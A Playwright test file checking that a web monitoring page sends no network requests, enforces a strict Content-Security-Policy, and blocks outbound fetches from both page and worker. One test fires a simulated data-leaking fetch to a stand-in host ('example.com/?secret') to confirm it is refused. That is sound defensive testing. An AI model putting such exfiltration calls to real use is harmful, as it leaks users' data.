import { expect, test } from './support/monitor-test';

test('nothing is asked for after the page is there, and no policy is violated', async ({ monitor, page }, info) => {
  await monitor.open();
  await page.waitForLoadState('networkidle');
  const atStart = monitor.requests.length;
  await monitor.dropSample();
  await monitor.sortButton('access-days').click();
  await monitor.download('csv');
  await monitor.download('manifest');
  await page.locator('tr[data-position="0"] .name').click();
  await page.keyboard.press('Escape');
  if (info.project.name === 'single-file') expect(monitor.requests).toEqual([monitor.address]);
  expect(monitor.requests.slice(atStart)).toEqual([]);
});

test('the policy allows no connection, no inline script, no evaluation', async ({ monitor, page }) => {
  await monitor.open();
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("connect-src 'none'");
  expect(policy).toContain("style-src 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'");
  expect(policy).not.toContain("'unsafe-eval'");
  expect(policy).not.toContain("'unsafe-inline'");
});

test('neither page nor worker can send anything anywhere', async ({ monitor, page }) => {
  await monitor.open();
  await page.getByRole('button', { name: 'Try the sample' }).click();
  await expect(monitor.count).toBeVisible();
  const attempt = async (): Promise<string> => {
    try {
      await fetch('https://example.com/?secret');
      return 'sent';
    } catch {
      return 'refused';
    }
  };
  expect(await page.evaluate(attempt)).toBe('refused');
  const [worker] = page.workers();
  expect(await worker?.evaluate(attempt)).toBe('refused');
  expect(monitor.requests.filter((url) => url.includes('example.com'))).toEqual([]);
  // Both refusals are reported as they should be; they are no failures of the page.
  monitor.failures.length = 0;
});
